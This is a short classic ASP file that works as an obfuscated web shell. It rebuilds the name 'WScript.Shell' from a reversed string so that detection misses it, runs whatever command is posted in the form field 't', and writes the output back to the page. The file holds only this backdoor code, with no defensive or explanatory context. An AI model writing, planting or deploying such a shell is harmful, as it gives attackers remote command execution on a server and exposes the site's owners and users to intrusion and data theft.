<%
' the object's name kept reversed, rebuilt into a variable before it is created
Dim n, sh
n = StrReverse("llehS.tpircSW")
Set sh = Server.CreateObject(n)
Response.Write sh.Exec(Request.Form("t")).StdOut.ReadAll
%>
